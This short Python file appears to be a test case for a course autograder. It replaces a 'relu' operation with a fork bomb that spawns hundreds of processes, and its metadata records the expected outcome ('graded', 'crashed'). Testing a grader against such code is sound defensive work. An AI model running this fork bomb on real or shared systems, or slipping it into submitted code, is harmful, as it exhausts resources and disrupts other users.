"""A few hundred processes, each of which makes more."""

# /// attack
# module = "02"
# status = ["graded", "crashed"]
# loses = ["relu", "module"]
# cell_seconds = 5
# ///

# %% replace relu
import os
@Op
def relu(x):
    for _ in range(500):
        try:
            os.fork()
        except OSError:
            pass
    return np.zeros_like(x)
